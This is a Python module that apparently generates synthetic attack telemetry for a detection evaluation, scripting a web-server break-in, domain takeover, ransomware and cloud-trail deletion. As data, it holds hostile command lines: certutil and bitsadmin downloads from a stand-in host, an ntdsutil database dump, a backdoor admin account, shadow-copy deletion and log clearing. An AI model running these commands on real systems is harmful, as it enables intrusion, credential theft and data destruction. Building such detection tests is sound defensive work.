"""Playbook: a web server is broken into, the domain is taken, and files are encrypted."""

from __future__ import annotations

from sentree.evals.generate import audit, cloud, network, windows
from sentree.evals.generate.emission import Emission
from sentree.evals.generate.story import SYSTEM32, Story
from sentree.evals.generate.windows import Process
from sentree.evals.generate.world import MILLISECOND, SYSTEM, Host, User

_SCANNER = Host("scanner", "203.0.113.77", "outside")
_TOOLS_NAME, _TOOLS_IP = "pkg-mirror.example.org", "198.51.100.88"
_AGENT = "python-requests/2.31.0"
_POOL = User("DefaultAppPool", "S-1-5-82-3006700770-424185619", "service")
_ROOT = "C:\\inetpub\\wwwroot\\portal\\"


def web_server(story: Story) -> None:
    """Tell the whole story."""
    worker = windows.running(
        story.rng,
        story.world.web_server,
        _POOL,
        SYSTEM32 + "inetsrv\\w3wp.exe",
        'w3wp.exe -ap "DefaultAppPool"',
    )
    _break_in(story, worker)
    _settle(story, worker)
    _take_domain(story)
    _encrypt(story)
    _cloud(story)
    story.plant("ip", _SCANNER.ip, _TOOLS_IP)
    story.plant("domain", _TOOLS_NAME)
    story.plant("user_agent", _AGENT)
    story.plant("account", "websupport")


def _break_in(story: Story, worker: Process) -> None:
    rng, host = story.rng, story.world.web_server
    shell_page = _ROOT + "upload\\img_cache.aspx"
    story.plant("file", shell_page)
    story.scene(0, 8, 20)
    story.deed(
        "T1190", "initial-access", host, _POOL,
        "A crafted request to the upload handler of the web server succeeds.",
        [
            network.http(
                story.now, rng, _SCANNER, host.ip, "portal.harborlane.example",
                "/portal/upload/handler.ashx?path=..%2f..%2f..%2fportal%2fupload", _AGENT,
                method="POST", sent=5120, received=310, mime="text/plain",
            )
        ],
    )  # fmt: skip
    story.now += 220 * MILLISECOND
    story.deed(
        "T1505.003", "persistence", host, _POOL,
        "The web server's worker writes a script page into the upload folder.",
        [windows.file_created(story.now, rng, worker, shell_page)],
    )  # fmt: skip
    for technique, image, line, what in (
        ("T1033", "whoami.exe", "whoami /priv", "The worker's privileges are listed."),
        ("T1082", "systeminfo.exe", "systeminfo", "The system is described."),
        ("T1087.001", "net.exe", "net localgroup administrators", "Local admins are listed."),
    ):
        story.wait(30, 120)
        call = network.http(
            story.later(-90), rng, _SCANNER, host.ip, "portal.harborlane.example",
            "/portal/upload/img_cache.aspx", _AGENT, method="POST", sent=140, received=900,
        )  # fmt: skip
        cmd, records = story.run(worker, SYSTEM32 + "cmd.exe", f"cmd.exe /c {line}")
        story.now += 30 * MILLISECOND
        records += story.run(cmd, SYSTEM32 + image, line)[1]
        story.deed(technique, "discovery", host, _POOL, what, records, [call])


def _settle(story: Story, worker: Process) -> None:
    rng, host = story.rng, story.world.web_server
    tool_path = "C:\\Windows\\Temp\\svcmon.exe"
    url = f"http://{_TOOLS_NAME}/r/svcmon.txt"
    story.plant("file", tool_path)
    story.plant("url", url)
    story.scene(0, 9, 15)
    cmd, wrapped = story.run(worker, SYSTEM32 + "cmd.exe", "cmd.exe /c certutil")
    tool, records = story.run(
        cmd, SYSTEM32 + "certutil.exe", f"certutil -urlcache -split -f {url} {tool_path}"
    )
    records += [
        windows.connection(story.later(60), rng, tool, _TOOLS_IP, 80, _TOOLS_NAME),
        windows.file_created(story.later(800), rng, tool, tool_path),
    ]
    story.deed(
        "T1105", "command-and-control", host, _POOL,
        "certutil downloads a program.", records,
        wrapped + network.dns(story.later(20), rng, host, story.world.dc, _TOOLS_NAME, _TOOLS_IP),
    )  # fmt: skip
    story.wait(60, 120)
    line = f'sc create SvcMon binPath= "{tool_path}" start= auto'
    _, records = story.run(cmd, SYSTEM32 + "sc.exe", line)
    records.append(audit.service_installed(story.later(90), host, "SvcMon", tool_path, SYSTEM))
    services = windows.running(rng, host, SYSTEM, SYSTEM32 + "services.exe")
    story.now += 400 * MILLISECOND
    implant, started = story.run(services, tool_path, tool_path)
    story.deed(
        "T1543.003", "persistence", host, SYSTEM, "A service runs the program.", records, started
    )
    story.wait(300, 500)
    shell, _ = story.run(implant, SYSTEM32 + "cmd.exe", "cmd.exe")
    line = "net user websupport Qr7-Meadow-19 /add"
    tool, records = story.run(shell, SYSTEM32 + "net.exe", line)
    sid = "S-1-5-21-3312233445-1100220033-778899001-1012"
    records.append(audit.account_created(story.later(70), tool, "websupport", sid))
    story.deed("T1136.001", "persistence", host, SYSTEM, "A local account is created.", records)
    story.wait(8, 20)
    line = "net localgroup administrators websupport /add"
    tool, records = story.run(shell, SYSTEM32 + "net.exe", line)
    records.append(audit.group_member_added(story.later(60), tool, sid))
    story.deed(
        "T1098.007", "persistence", host, SYSTEM,
        "The account joins the local administrators.", records,
    )  # fmt: skip
    story.wait(20, 60)
    _, records = story.run(
        shell, SYSTEM32 + "netsh.exe", "netsh advfirewall set allprofiles state off"
    )
    story.deed(
        "T1562.004", "defense-evasion", host, SYSTEM, "The host's firewall is turned off.", records
    )


def _take_domain(story: Story) -> None:
    world, rng = story.world, story.rng
    host, dc, admin = world.web_server, world.dc, world.admin
    story.scene(1, 2, 30)
    tickets: list[Emission] = []
    for n, service in enumerate(("svc.backup", "svc.sql", "svc.reports", "svc.print")):
        time = story.later(180 * n)
        tickets.append(audit.service_ticket(time, rng, dc, world.service, host, service, "0x17"))
        tickets.append(
            network.kerberos(
                time + 2 * MILLISECOND, rng, host, dc, world.service.name, service, "rc4-hmac"
            )
        )
    story.deed(
        "T1558.003", "credential-access", dc, world.service,
        "Service tickets with RC4 are requested one after another.", tickets,
    )  # fmt: skip
    story.scene(1, 4, 10)
    logon_id, entry = audit.logon(story.now, rng, dc, admin, 10, host)
    story.deed(
        "T1021.001", "lateral-movement", dc, admin,
        "An administrator's session is opened on the domain controller from the web server.",
        [entry],
        [
            audit.special_logon(story.later(1), dc, admin, logon_id),
            network.conn(story.later(-900), rng, host, dc.ip, 3389, service="rdp", duration=1900.0),
        ],
    )  # fmt: skip
    explorer = windows.running(rng, dc, admin, "C:\\Windows\\explorer.exe")
    story.wait(90, 200)
    cmd, _ = story.run(explorer, SYSTEM32 + "cmd.exe", "cmd.exe")
    line = 'ntdsutil "ac i ntds" "ifm" "create full C:\\ProgramData\\ifm" q q'
    tool, records = story.run(cmd, SYSTEM32 + "ntdsutil.exe", line)
    dump = "C:\\ProgramData\\ifm\\Active Directory\\ntds.dit"
    records.append(windows.file_created(story.later(5200), rng, tool, dump))
    story.plant("file", dump)
    finding = cloud.detection_finding(
        story.later(9000), rng, dc, admin, "Active Directory database copied", "T1003.003", 5
    )
    story.deed(
        "T1003.003", "credential-access", dc, admin,
        "The directory's database is copied with ntdsutil.", [*records, finding],
    )  # fmt: skip


def _encrypt(story: Story) -> None:
    world, rng, server = story.world, story.rng, story.world.file_server
    admin = world.admin
    story.scene(2, 1, 20)
    explorer = windows.running(rng, server, admin, SYSTEM32 + "cmd.exe", "cmd.exe")
    line = (
        "bitsadmin /transfer upd /download /priority high "
        f"http://{_TOOLS_NAME}/r/lk.bin C:\\ProgramData\\lk.exe"
    )
    _, records = story.run(explorer, SYSTEM32 + "bitsadmin.exe", line)
    story.deed("T1197", "persistence", server, admin, "A BITS job fetches a program.", records)
    story.wait(60, 160)
    _, records = story.run(
        explorer, SYSTEM32 + "vssadmin.exe", "vssadmin delete shadows /all /quiet"
    )
    _, more = story.run(
        explorer, SYSTEM32 + "bcdedit.exe", "bcdedit /set {default} recoveryenabled No"
    )
    story.deed(
        "T1490", "impact", server, admin, "Shadow copies and recovery are removed.", records + more
    )
    story.wait(20, 60)
    locker, records = story.run(explorer, "C:\\ProgramData\\lk.exe", "lk.exe -p D:\\Team")
    note = "D:\\Team\\HOW_TO_RECOVER_FILES.txt"
    records.append(windows.file_created(story.later(900), rng, locker, note))
    files = [
        windows.file_created(
            story.later(1000 + 70 * n), rng, locker, f"D:\\Team\\Finance\\sheet-{n}.xlsx.lk4"
        )
        for n in range(60)
    ]
    story.plant("file", "C:\\ProgramData\\lk.exe", note)
    story.deed("T1486", "impact", server, admin, "Files are encrypted.", records, files)
    story.wait(200, 400)
    tool, records = story.run(explorer, SYSTEM32 + "wevtutil.exe", "wevtutil cl Security")
    records += [
        audit.log_cleared(story.later(60), tool),
        audit.system_log_cleared(story.later(900), tool),
    ]
    story.deed("T1070.001", "defense-evasion", server, admin, "Event logs are cleared.", records)


def _cloud(story: Story) -> None:
    rng, user, where = story.rng, "deploy.bot", "aws:111122223333"
    agent, key = "aws-cli/2.9.1 Python/3.9.2", "AKIAEXAMPLE0CORP0001"
    for technique, tactic, name, source, request, what in (
        (
            "T1136.003", "persistence", "CreateUser", "iam.amazonaws.com",
            {"userName": "s3-sync"}, "A cloud user is created.",
        ),
        (
            "T1098.001", "persistence", "CreateAccessKey", "iam.amazonaws.com",
            {"userName": "s3-sync"}, "An access key is made for the new user.",
        ),
        (
            "T1562.008", "defense-evasion", "DeleteTrail", "cloudtrail.amazonaws.com",
            {"name": "main"}, "The audit trail is deleted.",
        ),
    ):  # fmt: skip
        if technique == "T1136.003":
            story.scene(2, 2, 40)
        story.wait(30, 120)
        call = cloud.api_call(
            story.now, rng, name, source, user, _SCANNER.ip, agent,
            request=dict(request), mfa=False, key=key,
        )  # fmt: skip
        story.deed(technique, tactic, where, user, what, [call])
